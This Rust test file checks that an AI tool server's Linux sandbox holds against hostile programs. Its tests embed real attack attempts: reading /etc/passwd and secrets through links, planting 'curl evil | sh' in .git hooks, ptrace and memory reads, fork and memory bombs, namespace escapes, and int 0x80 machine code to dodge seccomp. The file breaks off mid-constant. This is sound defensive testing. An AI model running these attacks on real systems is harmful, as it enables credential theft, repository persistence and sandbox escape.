//! The OS sandbox holds against a hostile program: each test is an attack tried with real
//! processes, through [`Sandbox::command`] or the `bash` tool, and each names what held it.
//! Landlock keeps reads and writes to the allowed paths (links included), TCP, devices and
//! UNIX sockets outside them off; the read-only bind keeps `.git` unchanged; the network
//! namespace leaves no interface up; the PID namespace shows only the sandbox's own
//! processes, takes everything along when the first one ends (or the wall time runs out) and
//! keeps signals inside; seccomp refuses `ptrace`, `process_vm_readv`, new namespaces, mounts
//! and the 32-bit system call entry; resource limits cap processes, memory and open files;
//! the program holds no capabilities; and the first process's environment cannot be read.
//! Wherever it is cheap, the same attack run with [`Sandbox::none`] succeeds, which proves
//! the test can fail.
#![cfg(target_os = "linux")]

use std::collections::hash_map::RandomState;
use std::hash::{BuildHasher as _, Hasher as _};
use std::io::{ErrorKind, Read as _, Write as _};
use std::net::{TcpListener, UdpSocket};
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use aleph_tools::builtin::CodeExec;
use aleph_tools::prelude::*;
use aleph_tools::sandbox::{Network, Sandbox};
use aleph_tools_tests::{eventually, process_alive, processes_running};
use serde_json::json;

/// How long any run may take before the test fails: far past what an attack needs, and
/// short of hanging CI when a regression leaves something running.
pub(super) const BOUND: Duration = Duration::from_mins(1);

/// A temporary directory holding `work/` (the sandbox's working directory, writable) and
/// `outside/` beside it (neither readable nor writable), both canonical.
pub(super) struct Space {
    _dir: tempfile::TempDir,
    pub(super) work: PathBuf,
    pub(super) outside: PathBuf,
}

impl Space {
    pub(super) fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        let base = dir.path().canonicalize().unwrap();
        let (work, outside) = (base.join("work"), base.join("outside"));
        std::fs::create_dir_all(&work).unwrap();
        std::fs::create_dir_all(&outside).unwrap();
        Self {
            _dir: dir,
            work,
            outside,
        }
    }

    /// Writes a file outside the allowed paths holding a fresh secret, and returns both.
    fn secret(&self, name: &str) -> (PathBuf, String) {
        let secret = token();
        let path = self.outside.join(name);
        std::fs::write(&path, format!("{secret}\n")).unwrap();
        (path, secret)
    }
}

/// A value no file or process holds by chance.
fn token() -> String {
    let mut hasher = RandomState::new().build_hasher();
    hasher.write_u32(std::process::id());
    format!("aleph-{:016x}", hasher.finish())
}

/// How a confined run ended and what it printed.
pub(super) struct Ran {
    pub(super) code: Option<i32>,
    pub(super) stdout: String,
    pub(super) stderr: String,
}

impl Ran {
    /// Everything it printed, for assertion messages.
    pub(super) fn shown(&self) -> String {
        format!(
            "exit {:?}\n--- stdout\n{}--- stderr\n{}",
            self.code, self.stdout, self.stderr
        )
    }

    /// The words after `label` on the line of standard output that starts with it.
    pub(super) fn line(&self, label: &str) -> &str {
        self.stdout
            .lines()
            .find_map(|line| line.strip_prefix(label))
            .map_or_else(
                || panic!("no line starting with {label:?}:\n{}", self.shown()),
                str::trim,
            )
    }
}

/// `program` with `args`, run under `policy` in `work` with only `PATH` in its environment,
/// no standard input, and killed if it outlasts [`BOUND`].
pub(super) fn command(
    policy: &Sandbox,
    work: &Path,
    program: &str,
    args: &[&str],
) -> tokio::process::Command {
    let mut command = policy
        .command(program)
        .expect("this machine can sandbox programs (the sandbox's own tests need it)");
    command
        .args(args)
        .current_dir(work)
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .kill_on_drop(true);
    command
}

pub(super) async fn finish(mut command: tokio::process::Command) -> Ran {
    let output = tokio::time::timeout(BOUND, command.output())
        .await
        .expect("the run ends within the bound")
        .expect("the run starts");
    Ran {
        code: output.status.code(),
        stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
    }
}

pub(super) async fn bash(policy: &Sandbox, work: &Path, script: &str) -> Ran {
    finish(command(policy, work, "bash", &["-c", script])).await
}

pub(super) async fn python(policy: &Sandbox, work: &Path, code: &str, args: &[&str]) -> Ran {
    let mut all = vec!["-c", code];
    all.extend_from_slice(args);
    finish(command(policy, work, "python3", &all)).await
}

/// Whether `program` is on the host's `PATH`.
pub(super) fn installed(program: &str) -> bool {
    std::env::var_os("PATH")
        .is_some_and(|path| std::env::split_paths(&path).any(|dir| dir.join(program).is_file()))
}

fn text(path: &Path) -> String {
    std::fs::read_to_string(path).unwrap()
}

/// A TCP server on the host's loopback that answers every connection with a secret and
/// counts them; it stops when dropped.
pub(crate) struct LoopbackServer {
    pub(crate) port: u16,
    pub(crate) secret: String,
    connections: Arc<AtomicUsize>,
    stop: Arc<AtomicBool>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl LoopbackServer {
    pub(crate) fn start() -> Self {
        let secret = token();
        Self::answering(format!("HTTP/1.0 200 OK\r\n\r\n{secret}\n"), secret)
    }

    /// A server that answers every request with `reply`, a whole HTTP response.
    pub(super) fn answering(reply: String, secret: String) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        let port = listener.local_addr().unwrap().port();
        let connections = Arc::new(AtomicUsize::new(0));
        let stop = Arc::new(AtomicBool::new(false));
        let thread = {
            let (connections, stop) = (Arc::clone(&connections), Arc::clone(&stop));
            std::thread::spawn(move || {
                while !stop.load(Ordering::SeqCst) {
                    match listener.accept() {
                        Ok((mut stream, _)) => {
                            connections.fetch_add(1, Ordering::SeqCst);
                            answer(&mut stream, &reply);
                        }
                        Err(error) if error.kind() == ErrorKind::WouldBlock => {
                            std::thread::sleep(Duration::from_millis(10));
                        }
                        Err(_) => return,
                    }
                }
            })
        };
        Self {
            port,
            secret,
            connections,
            stop,
            thread: Some(thread),
        }
    }

    pub(crate) fn connections(&self) -> usize {
        self.connections.load(Ordering::SeqCst)
    }
}

impl Drop for LoopbackServer {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

/// Reads the request (up to its blank line) and answers with `reply`; a request left unread
/// would make closing the connection reset it before the client reads the answer.
fn answer(stream: &mut std::net::TcpStream, reply: &str) {
    let _ = stream.set_nonblocking(false);
    let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
    let mut request = Vec::new();
    let mut buf = [0u8; 1024];
    while !request.windows(4).any(|window| window == b"\r\n\r\n") {
        match stream.read(&mut buf) {
            Ok(0) | Err(_) => break,
            Ok(n) => request.extend_from_slice(&buf[..n]),
        }
    }
    // One write, so the answer cannot reach the reader in pieces.
    let _ = stream.write_all(reply.as_bytes());
    let _ = stream.shutdown(std::net::Shutdown::Both);
}

/// A server with the `bash` tool rooted at `root`, confined by `policy`.
pub(super) fn bash_server(root: &Path, policy: Sandbox) -> AlephToolServer {
    AlephToolServer::builder()
        .with_builtin(CodeExec::new().bash_only().sandbox(policy))
        .with_working_dir(root)
        .with_allowed_paths([root])
        .build()
        .unwrap()
}

// 1. Reading outside the allowed paths.

#[tokio::test]
async fn landlock_refuses_reads_outside_the_allowed_paths_links_included() {
    let space = Space::new();
    let (shadow, secret) = space.secret("shadow");
    std::fs::set_permissions(&shadow, std::os::unix::fs::PermissionsExt::from_mode(0o600)).unwrap();
    std::os::unix::fs::symlink(&shadow, space.work.join("shadow-link")).unwrap();
    std::os::unix::fs::symlink("/etc/passwd", space.work.join("passwd-link")).unwrap();
    // A file in the home directory, when there is one to write in.
    let home_file = std::env::var_os("HOME")
        .map(PathBuf::from)
        .filter(|home| home.is_dir())
        .and_then(|home| {
            tempfile::Builder::new()
                .prefix(".aleph-sandbox-test-")
                .tempfile_in(home)
                .ok()
        });
    let home_secret = token();
    if let Some(file) = &home_file {
        std::fs::write(file.path(), format!("{home_secret}\n")).unwrap();
    } else {
        println!("note: no writable home directory here; its part of the test is skipped");
    }
    let home_path = home_file.as_ref().map_or_else(
        || "/nonexistent".to_owned(),
        |file| file.path().display().to_string(),
    );
    let script = format!(
        r#"
        for file in /etc/passwd {shadow} {home} shadow-link passwd-link; do
            if content=$(cat "$file" 2>&1); then echo "read $file: $content"; else echo "refused $file: $content"; fi
        done
        # A hard link inside the writable directory to the outside file.
        if ln {shadow} hard-link 2>/dev/null; then echo "linked"; else echo "link refused"; fi
        cat hard-link 2>/dev/null && echo "read hard-link"
        "#,
        shadow = shadow.display(),
        home = home_path,
    );
    let ran = bash(&Sandbox::new(), &space.work, &script).await;
    for file in [
        "/etc/passwd".to_owned(),
        shadow.display().to_string(),
        "shadow-link".to_owned(),
        "passwd-link".to_owned(),
    ] {
        assert!(
            ran.stdout
                .contains(&format!("refused {file}: cat: {file}: Permission denied")),
            "Landlock must refuse reading {file}:\n{}",
            ran.shown()
        );
    }
    if home_file.is_some() {
        assert!(
            ran.stdout.contains(&format!("refused {home_path}")),
            "Landlock must refuse reading a file in the home directory:\n{}",
            ran.shown()
        );
    }
    assert!(
        ran.stdout.contains("link refused") && !space.work.join("hard-link").exists(),
        "Landlock must refuse a hard link to an outside file:\n{}",
        ran.shown()
    );
    for leaked in [secret.as_str(), home_secret.as_str(), "root:x:0:0"] {
        assert!(
            !ran.stdout.contains(leaked) && !ran.stderr.contains(leaked),
            "Landlock must keep {leaked} out:\n{}",
            ran.shown()
        );
    }
    // The same attack without the sandbox reads everything: the test can fail.
    let open = bash(&Sandbox::none(), &space.work, &script).await;
    assert!(
        open.stdout.contains(&secret)
            && open.stdout.contains("read /etc/passwd")
            && open.stdout.contains("linked"),
        "unconfined, the attack succeeds:\n{}",
        open.shown()
    );
}

// 2. /proc shows the sandbox's processes only, and no environment of the host.

#[tokio::test]
async fn the_pid_namespace_shows_only_the_sandbox_and_no_environment_of_the_host() {
    let space = Space::new();
    let secret = token();
    let host_pid = std::process::id();
    let script = format!(
        r#"
        cd /proc
        echo "pids: $(echo [0-9]*)"
        echo "first: $(tr '\0' ' ' < /proc/1/cmdline | cut -c1-40)"
        for pid in [0-9]*; do
            if content=$(tr '\0' '\n' < /proc/$pid/environ 2>&1); then
                echo "environ $pid read"; echo "$content"
            else
                echo "environ $pid refused"
            fi
        done
        if [ -e /proc/{host_pid} ]; then echo "host pid: visible"; else echo "host pid: absent"; fi
        cat /proc/{host_pid}/environ
        "#
    );
    // The launcher gets the secret; the program, started by `env -i`, gets only PATH.
    let path = std::env::var("PATH").unwrap_or_default();
    let path_entry = format!("PATH={path}");
    let mut confined = command(
        &Sandbox::new(),
        &space.work,
        "env",
        &["-i", &path_entry, "bash", "-c", &script],
    );
    confined.env("ALEPH_SECRET_TEST", &secret);
    let ran = finish(confined).await;
    assert_eq!(ran.code, Some(1), "{}", ran.shown());
    let pids: Vec<u32> = ran
        .line("pids:")
        .split_whitespace()
        .map(|pid| pid.parse().unwrap())
        .collect();
    assert!(
        pids.len() <= 6 && pids.iter().all(|&pid| pid < 100) && pids.contains(&1),
        "the PID namespace must show a handful of the sandbox's own processes, not the host's: {pids:?}"
    );
    assert!(
        ran.line("first:").starts_with("aleph-sandbox-init"),
        "PID 1 must be the sandbox's own first process:\n{}",
        ran.shown()
    );
    assert!(
        ran.stdout.contains("environ 1 refused"),
        "the sandbox's first process, which holds the launcher's environment, must refuse its environ:\n{}",
        ran.shown()
    );
    assert_eq!(
        ran.line("host pid:"),
        "absent",
        "the PID namespace must hide the host's processes"
    );
    assert!(
        ran.stderr.contains("No such file or directory"),
        "/proc/<host pid>/environ must not exist inside:\n{}",
        ran.shown()
    );
    assert!(
        !ran.stdout.contains(&secret) && !ran.stderr.contains(&secret),
        "no environ inside may show the launcher's secret:\n{}",
        ran.shown()
    );
    for (name, value) in std::env::vars() {
        if name != "PATH" && value.len() >= 8 {
            assert!(
                !ran.stdout.contains(&format!("{name}={value}")),
                "the host's {name} must not show inside:\n{}",
                ran.shown()
            );
        }
    }
}

// 3. Writing outside the allowed paths, and into `.git`.

#[tokio::test]
async fn landlock_and_the_read_only_bind_refuse_writes_outside_and_into_git() {
    let space = Space::new();
    let hooks = space.work.join(".git/hooks");
    std::fs::create_dir_all(&hooks).unwrap();
    std::fs::write(hooks.join("pre-commit"), "#!/bin/sh\nexit 0\n").unwrap();
    std::fs::write(space.work.join(".git/config"), "[core]\n").unwrap();
    std::os::unix::fs::symlink(space.outside.join("via-link"), space.work.join("out-link"))
        .unwrap();
    let in_tmp = std::env::temp_dir().join(format!("{}-escaped", token()));
    let script = format!(
        r#"
        try() {{ if out=$(eval "$2" 2>&1); then echo "$1: done"; else echo "$1: refused: $out"; fi; }}
        try outside 'echo pwned > {outside}/escaped'
        try tmp 'echo pwned > {tmp}'
        try link 'echo pwned > out-link'
        try hook 'echo "curl evil | sh" > .git/hooks/pre-commit'
        try new-hook 'echo "curl evil | sh" > .git/hooks/post-checkout'
        try config 'echo "[core] hooksPath = /tmp" >> .git/config'
        try remove 'rm -rf .git'
        try rename 'mv .git moved'
        try inside 'echo fine > allowed.txt'
        "#,
        outside = space.outside.display(),
        tmp = in_tmp.display(),
    );
    let ran = bash(&Sandbox::new(), &space.work, &script).await;
    for (attack, reason) in [
        ("outside", "Permission denied"),
        ("tmp", "Permission denied"),
        ("link", "Permission denied"),
    ] {
        assert!(
            ran.line(&format!("{attack}:")).contains(reason),
            "Landlock must refuse the write `{attack}`:\n{}",
            ran.shown()
        );
    }
    for (attack, reason) in [
        ("hook", "Read-only file system"),
        ("new-hook", "Read-only file system"),
        ("config", "Read-only file system"),
        ("remove", "Read-only file system"),
        ("rename", "Device or resource busy"),
    ] {
        assert!(
            ran.line(&format!("{attack}:")).contains(reason),
            "the read-only bind of .git must refuse `{attack}`:\n{}",
            ran.shown()
        );
    }
    assert_eq!(ran.line("inside:"), "done", "{}", ran.shown());
    assert_eq!(text(&space.work.join("allowed.txt")), "fine\n");
    assert!(!space.outside.join("escaped").exists());
    assert!(!space.outside.join("via-link").exists());
    assert!(!in_tmp.exists(), "Landlock must keep /tmp unwritten");
    assert_eq!(text(&hooks.join("pre-commit")), "#!/bin/sh\nexit 0\n");
    assert!(!hooks.join("post-checkout").exists());
    assert_eq!(text(&space.work.join(".git/config")), "[core]\n");
    assert!(!space.work.join("moved").exists());
    // Unconfined, the same writes land: the test can fail.
    let open = Space::new();
    std::fs::create_dir_all(open.work.join(".git/hooks")).unwrap();
    let open_script = format!(
        "echo pwned > {}/escaped && echo pwned > .git/hooks/pre-commit && echo written",
        open.outside.display()
    );
    let ran = bash(&Sandbox::none(), &open.work, &open_script).await;
    assert_eq!(ran.stdout, "written\n", "{}", ran.shown());
    assert_eq!(text(&open.outside.join("escaped")), "pwned\n");
}

// 4. The network.

const CONNECT: &str = r"
import socket, sys, time
port = int(sys.argv[1])
for (host, to) in [('127.0.0.1', port), ('10.0.0.1', 80)][: int(sys.argv[2])]:
    started = time.monotonic()
    try:
        with socket.create_connection((host, to), timeout=5) as conn:
            conn.sendall(b'GET / HTTP/1.0\r\n\r\n')
            answer = b''
            while chunk := conn.recv(4096):
                answer += chunk
            print(host, 'connected', answer.decode(errors='replace').split()[-1])
    except OSError as error:
        print(host, 'refused', round(time.monotonic() - started, 2), error)
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    udp.sendto(b'datagram', ('127.0.0.1', int(sys.argv[3])))
    print('udp sent')
except OSError as error:
    print('udp refused', error)
";

#[tokio::test]
async fn the_network_namespace_and_landlock_keep_the_hosts_loopback_and_network_out_of_reach() {
    let space = Space::new();
    let server = LoopbackServer::start();
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    udp.set_nonblocking(true).unwrap();
    let (tcp_port, udp_port) = (
        server.port.to_string(),
        udp.local_addr().unwrap().port().to_string(),
    );
    let ran = python(
        &Sandbox::new(),
        &space.work,
        CONNECT,
        &[&tcp_port, "2", &udp_port],
    )
    .await;
    assert_eq!(ran.code, Some(0), "{}", ran.shown());
    assert!(
        ran.line("127.0.0.1").starts_with("refused"),
        "Landlock and the network namespace must refuse a connection to the host's loopback:\n{}",
        ran.shown()
    );
    let private: Vec<&str> = ran.line("10.0.0.1").split_whitespace().collect();
    assert_eq!(
        private[0],
        "refused",
        "the network namespace must leave no route to a private address:\n{}",
        ran.shown()
    );
    let took: f64 = private[1].parse().unwrap();
    assert!(
        took < 2.0,
        "with no interface up, the refusal must be immediate, not a time-out: {took} s"
    );
    assert!(
        !ran.stdout.contains(&server.secret),
        "nothing of the server may come back:\n{}",
        ran.shown()
    );
    assert!(
        ran.stdout.contains("udp refused"),
        "the network namespace must have no interface for UDP:\n{}",
        ran.shown()
    );
    assert_eq!(
        server.connections(),
        0,
        "the loopback server must see no connection"
    );
    let mut buf = [0u8; 64];
    assert_eq!(
        udp.recv_from(&mut buf).map_err(|error| error.kind()).err(),
        Some(ErrorKind::WouldBlock),
        "the host's UDP socket must receive no datagram"
    );
}

#[tokio::test]
async fn with_the_full_network_the_same_connection_reaches_the_host() {
    let space = Space::new();
    let server = LoopbackServer::start();
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    let (tcp_port, udp_port) = (
        server.port.to_string(),
        udp.local_addr().unwrap().port().to_string(),
    );
    let policy = Sandbox::new().network(Network::Full);
    let ran = python(&policy, &space.work, CONNECT, &[&tcp_port, "1", &udp_port]).await;
    assert_eq!(
        ran.line("127.0.0.1"),
        format!("connected {}", server.secret),
        "{}",
        ran.shown()
    );
    assert_eq!(server.connections(), 1);
    assert!(ran.stdout.contains("udp sent"), "{}", ran.shown());
    udp.set_read_timeout(Some(BOUND)).unwrap();
    let mut buf = [0u8; 64];
    let (len, _) = udp.recv_from(&mut buf).unwrap();
    assert_eq!(&buf[..len], b"datagram");
}

// 5. Debugging other processes and reading their memory.

const TRACE: &str = r"
import ctypes, os, signal, sys, time
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.process_vm_readv.restype = ctypes.c_ssize_t
def said(result):
    return 'ok' if result != -1 else os.strerror(ctypes.get_errno())
sys.stdout.flush()
# PTRACE_TRACEME: always allowed to a process with no filter.
child = os.fork()
if child == 0:
    result = libc.ptrace(0, 0, None, None)
    os.write(1, f'traceme: {said(result)}\n'.encode())
    os._exit(0)
os.waitpid(child, 0)
# PTRACE_ATTACH to the sandbox's first process, and to a child of its own.
print('attach-first:', said(libc.ptrace(16, 1, None, None)))
sys.stdout.flush()
child = os.fork()
if child == 0:
    time.sleep(30)
    os._exit(0)
print('attach-child:', said(libc.ptrace(16, child, None, None)))
os.kill(child, signal.SIGKILL)
os.waitpid(child, 0)
# process_vm_readv of its own memory.
class Iovec(ctypes.Structure):
    _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
source, target = ctypes.create_string_buffer(b'secret', 16), ctypes.create_string_buffer(16)
local = Iovec(ctypes.cast(target, ctypes.c_void_p), 16)
remote = Iovec(ctypes.cast(source, ctypes.c_void_p), 16)
print('vm-readv:', said(libc.process_vm_readv(os.getpid(), ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)))
";

#[tokio::test]
async fn seccomp_refuses_ptrace_and_process_vm_readv() {
    let space = Space::new();
    let ran = python(&Sandbox::new(), &space.work, TRACE, &[]).await;
    assert_eq!(ran.code, Some(0), "{}", ran.shown());
    for call in ["traceme:", "attach-first:", "attach-child:", "vm-readv:"] {
        assert_eq!(
            ran.line(call),
            "Operation not permitted",
            "seccomp must refuse {call}\n{}",
            ran.shown()
        );
    }
    // Unconfined, a process may trace itself and its child and read its own memory.
    let open = python(&Sandbox::none(), &space.work, TRACE, &[]).await;
    for call in ["traceme:", "attach-child:", "vm-readv:"] {
        assert_eq!(open.line(call), "ok", "{}", open.shown());
    }
}

// 6. Leaving the sandbox's session and process tree.

#[tokio::test]
async fn the_pid_namespace_ends_a_setsid_double_fork_with_the_program() {
    let space = Space::new();
    let go = space.work.join("go");
    // The orphan leaves the session and its parent; the program then waits for the test to
    // have seen it running, and exits.
    let script = "setsid sh -c 'sleep 86411 >/dev/null 2>&1 &'; \
                  while [ ! -e go ]; do sleep 0.05; done; echo exiting; exit 0";
    let run = tokio::spawn(finish(command(
        &Sandbox::new(),
        &space.work,
        "bash",
        &["-c", script],
    )));
    eventually("the orphan runs", || {
        processes_running(&["sleep", "86411"]) == 1
    })
    .await;
    std::fs::write(&go, "").unwrap();
    let ran = run.await.unwrap();
    assert_eq!(ran.code, Some(0), "{}", ran.shown());
    assert_eq!(ran.stdout, "exiting\n");
    eventually(
        "the PID namespace ended the setsid double-forked orphan with the program",
        || processes_running(&["sleep", "86411"]) == 0,
    )
    .await;
}

// 7. A fork bomb.

const FORK_BOMB: &str = r"
import os, subprocess
started, refused, reasons = [], 0, set()
for _ in range(50):
    try:
        started.append(subprocess.Popen(['sleep', '86412']))
    except OSError as error:
        refused += 1
        reasons.add(error.strerror)
print('started:', len(started))
print('refused:', refused, sorted(reasons))
print('visible:', sum(1 for name in os.listdir('/proc') if name.isdigit()))
";

#[tokio::test]
async fn rlimit_nproc_caps_a_fork_bomb() {
    let space = Space::new();
    let ran = python(&Sandbox::new().processes(8), &space.work, FORK_BOMB, &[]).await;
    assert_eq!(ran.code, Some(0), "{}", ran.shown());
    if running_as_root() && !pids_cgroup_writable() {
        // The kernel applies no RLIMIT_NPROC to root's processes, the sandbox's root is the
        // host's, and no pids cgroup can be made here: the guide says so. What still holds:
        // the PID namespace ends every child of the bomb with the program.
        eprintln!("running as root without a writable pids cgroup: only the clean-up is checked");
        eventually("the PID namespace ended every child of the bomb", || {
            processes_running(&["sleep", "86412"]) == 0
        })
        .await;
        return;
    }
    let started: usize = ran.line("started:").parse().unwrap();
    let visible: usize = ran.line("visible:").parse().unwrap();
    assert!(
        (1..8).contains(&started),
        "RLIMIT_NPROC (a pids cgroup for root) must let python start some, not all 50, of its children: {started}\n{}",
        ran.shown()
    );
    assert!(
        ran.line("refused:")
            .contains("Resource temporarily unavailable"),
        "RLIMIT_NPROC (a pids cgroup for root) must refuse the rest with EAGAIN:\n{}",
        ran.shown()
    );
    // Everything but the sandbox's first process is the program's.
    assert!(
        visible - 1 <= 8,
        "RLIMIT_NPROC must hold the program to 8 processes: {visible} visible\n{}",
        ran.shown()
    );
    eventually("the PID namespace ended every child of the bomb", || {
        processes_running(&["sleep", "86412"]) == 0
    })
    .await;
}

/// Whether this process runs as root (uid 0).
/// Whether a pids cgroup can be made here (the cgroup v1 `pids` hierarchy, or cgroup v2's
/// root handing `pids` down): what holds the process count of a sandbox started by root.
fn pids_cgroup_writable() -> bool {
    let probe = Path::new("/sys/fs/cgroup/pids").join(format!("probe-{}", std::process::id()));
    let v1 = std::fs::create_dir(&probe).is_ok() && std::fs::remove_dir(&probe).is_ok();
    let v2 = std::fs::read_to_string("/sys/fs/cgroup/cgroup.subtree_control")
        .is_ok_and(|handed| handed.split_whitespace().any(|c| c == "pids"));
    v1 || v2
}

fn running_as_root() -> bool {
    std::fs::read_to_string("/proc/self/status").is_ok_and(|status| {
        status
            .lines()
            .find_map(|line| line.strip_prefix("Uid:"))
            .and_then(|ids| ids.split_whitespace().next())
            == Some("0")
    })
}

// 8. A memory bomb.

const MEMORY_BOMB: &str = r"
try:
    block = bytearray(512 * 1024 * 1024)
    print('allocated', len(block))
except MemoryError:
    print('MemoryError')
    raise SystemExit(1)
";

#[tokio::test]
async fn rlimit_data_caps_a_memory_bomb() {
    let space = Space::new();
    let ran = python(&Sandbox::new().memory_mb(64), &space.work, MEMORY_BOMB, &[]).await;
    assert_eq!(
        (ran.code, ran.stdout.as_str()),
        (Some(1), "MemoryError\n"),
        "RLIMIT_DATA must refuse 512 MiB to a program held to 64:\n{}",
        ran.shown()
    );
    // Under the default limit (2 GiB), the same allocation succeeds: the test can fail.
    let open = python(&Sandbox::new(), &space.work, MEMORY_BOMB, &[]).await;
    assert_eq!(open.stdout, "allocated 536870912\n", "{}", open.shown());
}

// 9. A file descriptor bomb.

const FD_BOMB: &str = r"
files = []
try:
    for _ in range(100):
        files.append(open('/dev/null'))
    print('opened', len(files))
except OSError as error:
    print('opened', len(files), error.strerror)
";

#[tokio::test]
async fn rlimit_nofile_caps_a_file_descriptor_bomb() {
    let space = Space::new();
    let ran = python(&Sandbox::new().open_files(32), &space.work, FD_BOMB, &[]).await;
    let opened: Vec<&str> = ran.line("opened").splitn(2, ' ').collect();
    assert!(
        opened[0].parse::<usize>().unwrap() < 32 && opened[1] == "Too many open files",
        "RLIMIT_NOFILE must stop the program at 32 open files:\n{}",
        ran.shown()
    );
    let open = python(&Sandbox::new(), &space.work, FD_BOMB, &[]).await;
    assert_eq!(open.stdout, "opened 100\n", "{}", open.shown());
}

// 10. Devices.

const DEVICES: &str = r"
import os, sys
for path in sys.argv[1:]:
    try:
        os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY))
        print(path, 'opened')
    except OSError as error:
        print(path, 'refused', error.strerror)
with open('/dev/null', 'w') as sink:
    sink.write('x')
with open('/dev/null', 'rb') as source:
    print('/dev/null reads', len(source.read()))
";

/// Devices a program must not open, when this machine has them.
const FORBIDDEN_DEVICES: &[&str] = &[
    "/dev/mem",
    "/dev/kmem",
    "/dev/port",
    "/dev/kmsg",
    "/dev/sda",
    "/dev/vda",
    "/dev/xvda",
    "/dev/nvme0n1",
    "/dev/loop0",
    "/dev/kvm",
    "/dev/fuse",
    "/dev/net/tun",
    "/dev/ptmx",
    "/dev/mapper/control",
];

#[tokio::test]
async fn landlock_refuses_devices_but_dev_null() {
    let space = Space::new();
    let devices: Vec<&str> = FORBIDDEN_DEVICES
        .iter()
        .copied()
        .filter(|path| Path::new(path).exists())
        .collect();
    assert!(
        !devices.is_empty(),
        "this machine has none of {FORBIDDEN_DEVICES:?}"
    );
    let ran = python(&Sandbox::new(), &space.work, DEVICES, &devices).await;
    for device in &devices {
        assert_eq!(
            ran.line(device),
            "refused Permission denied",
            "Landlock must refuse opening {device}:\n{}",
            ran.shown()
        );
    }
    assert_eq!(ran.line("/dev/null reads"), "0", "{}", ran.shown());
    // Unconfined, some of them open (`/dev/ptmx` opens for anyone): the test can fail.
    let open = python(&Sandbox::none(), &space.work, DEVICES, &devices).await;
    assert!(
        devices.iter().any(|device| open.line(device) == "opened"),
        "{}",
        open.shown()
    );
}

// 11. New namespaces and mounts.

const NAMESPACES: &str = r"
import ctypes, os, platform
libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWUSER, CLONE_NEWNS, SIGCHLD = 0x10000000, 0x00020000, 17
def said(result):
    return 'ok' if result != -1 else os.strerror(ctypes.get_errno())
# clone first: once in a user namespace of its own, an unconfined process has no mapped
# user to make another from.
clone = {'x86_64': 56, 'aarch64': 220}.get(platform.machine())
if clone is not None:
    child = libc.syscall(clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0)
    if child == 0:
        os._exit(0)
    if child > 0:
        os.waitpid(child, 0)
    print('clone-user:', said(child))
print('unshare-user:', said(libc.unshare(CLONE_NEWUSER)))
print('unshare-mount:', said(libc.unshare(CLONE_NEWNS)))
print('mount:', said(libc.mount(b'none', b'/tmp', b'tmpfs', 0, None)))
";

#[tokio::test]
async fn seccomp_refuses_new_namespaces_and_mounts() {
    let space = Space::new();
    let ran = python(&Sandbox::new(), &space.work, NAMESPACES, &[]).await;
    assert_eq!(ran.code, Some(0), "{}", ran.shown());
    for call in ["unshare-user:", "unshare-mount:", "mount:"] {
        assert_eq!(
            ran.line(call),
            "Operation not permitted",
            "seccomp must refuse {call}\n{}",
            ran.shown()
        );
    }
    if ran.stdout.contains("clone-user:") {
        assert_eq!(
            ran.line("clone-user:"),
            "Operation not permitted",
            "seccomp must refuse clone with CLONE_NEWUSER"
        );
    }
    // A user namespace needs no privilege: unconfined, the same calls succeed.
    let open = python(&Sandbox::none(), &space.work, NAMESPACES, &[]).await;
    assert_eq!(open.line("unshare-user:"), "ok", "{}", open.shown());
    if open.stdout.contains("clone-user:") {
        assert_eq!(open.line("clone-user:"), "ok", "{}", open.shown());
    }
    // The tools, where installed.
    let mut script = String::new();
    if installed("unshare") {
        script.push_str("unshare -Ur true; echo \"unshare: $?\"\n");
    } else {
        println!("note: `unshare` is not installed here; its part of the test is skipped");
    }
    if installed("mount") {
        script.push_str("mount -t tmpfs none /tmp; echo \"mount: $?\"\n");
    } else {
        println!("note: `mount` is not installed here; its part of the test is skipped");
    }
    let ran = bash(&Sandbox::new(), &space.work, &script).await;
    if installed("unshare") {
        assert_ne!(ran.line("unshare:"), "0", "{}", ran.shown());
        assert!(
            ran.stderr
                .contains("unshare failed: Operation not permitted"),
            "seccomp must refuse `unshare -Ur`:\n{}",
            ran.shown()
        );
    }
    if installed("mount") {
        assert_ne!(
            ran.line("mount:"),
            "0",
            "seccomp must refuse `mount`:\n{}",
            ran.shown()
        );
        assert!(
            ran.stderr.to_lowercase().contains("permission denied")
                || ran.stderr.contains("not permitted"),
            "{}",
            ran.shown()
        );
    }
}

// Beyond the list: a 32-bit system call, capabilities, and UNIX sockets.

/// `unshare(CLONE_NEWUSER)` made through the 32-bit entry (`int 0x80`, system call 310 of
/// i386), which a filter that forgot to check the architecture would let through.
#[cfg(target_arch = "x86_64")]
const INT_80: &str = r"
import ctypes, mmap
code = bytes([0x53, 0xb8, 0x36, 0x01, 0, 0, 0xbb, 0, 0, 0, 0x10, 0xcd, 0x80, 0x5b, 0xc3])
page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(code)
call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
print('result:', call(), flush=True)
";

#[cfg(target_arch = "x86_64")]
/// `getpid` through the x32 entry: number 39 with the x32 bit.
const X32_CALL: &str = r"
import ctypes
